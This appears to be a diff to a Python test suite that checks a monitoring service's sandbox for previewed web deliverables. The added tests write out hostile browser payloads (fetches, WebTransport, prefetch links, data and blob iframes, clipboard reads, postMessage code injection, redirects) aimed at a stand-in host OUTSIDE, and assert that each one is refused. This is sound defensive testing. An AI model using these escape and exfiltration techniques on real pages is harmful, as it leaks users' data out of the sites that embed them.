@@ -7,6 +7,7 @@ whatever reaches it got out.
 from __future__ import annotations
 
 import json
+import re
 import socket
 import threading
 from collections.abc import Iterator
@@ -76,6 +77,29 @@ get("fetch api blind", "MONITOR/api/runs/hostile/stop", { method: "POST", mode: 
 get("fetch token", "MONITOR/monitor", { credentials: "include" });
 get("fetch own", "style.css");
 get("fetch up", "../../");
+attempt("service worker", () => { navigator.serviceWorker.register("part.js").then(
+  () => tell("service worker", "there"), () => tell("service worker", "refused")); return "tried"; });
+attempt("shared worker", () => { new SharedWorker("http://OUTSIDE/shared"); return "tried"; });
+attempt("transport", () => { const t = new WebTransport("https://OUTSIDE/transport");
+  t.ready.catch(() => 0); t.closed.catch(() => 0); return "tried"; });
+attempt("later", () => { fetchLater("http://OUTSIDE/later", { activateAfter: 0 }); return "tried"; });
+attempt("font", () => { new FontFace("x", "url(http://OUTSIDE/font)").load().catch(() => 0); return "tried"; });
+attempt("policy", () => { const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy";
+  m.content = "default-src *; report-uri http://OUTSIDE/report"; document.head.append(m); return "tried"; });
+attempt("hints", () => { for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "next"]) {
+  const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = `http://${rel}.OUTSIDE/late`; document.head.append(l); }
+  return "tried"; });
+attempt("frame", () => { for (const src of ["data:text/html,<script>fetch('http://OUTSIDE/data')<\\/script>",
+  URL.createObjectURL(new Blob(["<script>fetch('http://OUTSIDE/bloburl')<\\/script>"], { type: "text/html" }))]) {
+  const f = document.createElement("iframe"); f.src = src; document.body.append(f); } return "tried"; });
+attempt("wasm", () => { WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => tell("wasm", "ran"), () => tell("wasm", "refused")); return "tried"; });
+attempt("name", () => window.name);
+attempt("history", () => { history.pushState({}, "", "/elsewhere"); return "tried"; });
+attempt("referrer", () => document.referrer);
+attempt("ancestors", () => [...location.ancestorOrigins].join());
+attempt("dialog", () => { alert(1); return String(confirm(1)); });
+attempt("clipboard", () => { navigator.clipboard.readText().then((t) => tell("clipboard", t), () => tell("clipboard", "refused")); return "tried"; });
+attempt("message", () => { parent.postMessage({ event: "run_javascript", code: "document.title='owned'" }, "*"); return "tried"; });
 attempt("call", () => { CALL; return "tried"; });
 setTimeout(() => tell("done", "yes"), 1500);
 </script></body></html>"""
@@ -87,6 +111,10 @@ CALL = (
 )
 #: What a page tries that leaves by itself: with nothing but its own address.
 LEAVING = """<!doctype html><title>leaving</title><script>location = "http://OUTSIDE/leave?what=the+task"</script>"""
+LEAVING_AS_DATA = """<!doctype html><script>location = "data:text/html,<script>fetch('http://OUTSIDE/asdata')<" + "/script>";
+</script>"""
+LEAVING_AS_BLOB = """<!doctype html><script>location = URL.createObjectURL(
+new Blob(["<script>fetch('http://OUTSIDE/asblob')<" + "/script>"], { type: "text/html" }));</script>"""
 REFRESHING = """<!doctype html><meta http-equiv=refresh content="0; url=http://OUTSIDE/refresh">"""
 SENDING = """<!doctype html><form id=f method=post action="http://OUTSIDE/form"><input name=a value=b></form>
 <script>f.submit()</script>"""
@@ -166,6 +194,8 @@ def _run_hostile(base: Path, outside: Outside, whole: Whole) -> None:
     pages = {
         "index.html": ATTACK,
         "leaving.html": LEAVING,
+        "leaving-as-data.html": LEAVING_AS_DATA,
+        "leaving-as-blob.html": LEAVING_AS_BLOB,
         "refreshing.html": REFRESHING,
         "sending.html": SENDING,
         "calling.html": CALLING,
@@ -223,14 +253,19 @@ def test_a_deliverable_can_reach_nothing(browser: Browser, service: Whole, outsi
         assert told[name] == "refused", name
     for name in ("fetch own", "fetch up", "socket outside", "socket monitor", "eval", "call"):
         assert told[name] == "refused", name
+    for name in ("wasm", "service worker", "clipboard"):
+        assert told[name] == "refused", name
     assert told["open"] == "null"
+    assert told["referrer"] == ""
     colour = frame.locator("body").evaluate("body => getComputedStyle(body).color")
     assert colour == "rgb(1, 2, 3)", "the deliverable's own style was not loaded"
-    for path in ("leaving.html", "refreshing.html", "sending.html", "calling.html", "drawn.svg", "notes.md"):
+    ways = ("leaving.html", "leaving-as-data.html", "leaving-as-blob.html", "refreshing.html", "sending.html")
+    for path in (*ways, "calling.html", "drawn.svg", "notes.md"):
         show_file(page, path)
         page.wait_for_timeout(1500)
     assert page.url == f"{service.url}/monitor/run/{THREAD}"
     assert outside.came == []
+    assert "owned" not in page.title()
     # The scripts' own errors are told here, too.
     assert [fault for fault in faults if not fault.startswith("uncaught ")] == []
 
@@ -311,6 +346,17 @@ def test_another_site_gets_nothing_from_a_browser_that_is_signed_in(
         ],
     )
     assert told == ["refused", "refused", "refused"]
+    # What needs no permission to be loaded: the cookie goes along to every port of a host.
+    loaded = other.evaluate(
+        """async (api) => {
+          const load = (tag, name) => new Promise((done) => { const e = document.createElement(tag);
+            e.onload = () => done("loaded"); e.onerror = () => done("refused"); e[name] = api; document.body.append(e); });
+          return [await load("img", "src"), await load("script", "src"),
+            await fetch(api, { mode: "no-cors", credentials: "include" }).then((r) => r.type, () => "refused")];
+        }""",
+        f"{service.url}/monitor/assets/monitor.js",
+    )
+    assert loaded == ["refused", "refused", "refused"]
     other.set_content(f'<iframe src="{service.url}/monitor"></iframe>')
     other.wait_for_timeout(800)
     assert "Matrioska" not in (other.frames[1].content() if len(other.frames) > 1 else "")
@@ -352,6 +398,17 @@ def test_strangers_and_climbers_are_turned_away(
         response = client.get(service_once.url + path, headers=filled)
     assert response.status_code == status
     assert "root:" not in response.text
+
+
+@pytest.mark.parametrize(("name", "other"), [("127.0.0.1", "localhost"), ("localhost", "127.0.0.1")])
+def test_a_page_frames_nothing_but_its_own_previews(service_once: Whole, name: str, other: str) -> None:
+    port = service_once.url.rpartition(":")[2]
+    headers = {**service_once.bearer, "Host": f"{name}:{port}"}
+    policy = httpx.get(f"{service_once.url}/monitor/", headers=headers).headers["content-security-policy"]
+    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
+    assert re.fullmatch(rf"http://{re.escape(other)}:\d+", rules["frame-src"])
+    assert rules["connect-src"] == rules["form-action"] == rules["default-src"] == "'self'"
+    assert rules["frame-ancestors"] == rules["object-src"] == rules["base-uri"] == "'none'"
 
 
 @pytest.fixture(scope="module")
